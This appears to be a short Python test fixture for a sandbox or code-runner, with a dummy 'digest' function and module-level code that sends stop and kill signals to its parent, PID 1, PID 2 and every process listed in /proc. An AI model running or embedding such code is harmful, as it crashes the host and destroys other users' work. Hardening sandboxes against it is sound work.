"""Kills its parent and all processes that it sees.

kinds: function, beside, stdio
"""

import os

def digest(values):
    return 0

numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else []
for number in [os.getppid(), 1, 2, *numbers]:
    if number > 0 and number != os.getpid():
        for signal in (19, 9, 15):
            try:
                os.kill(number, signal)
            except OSError:
                pass
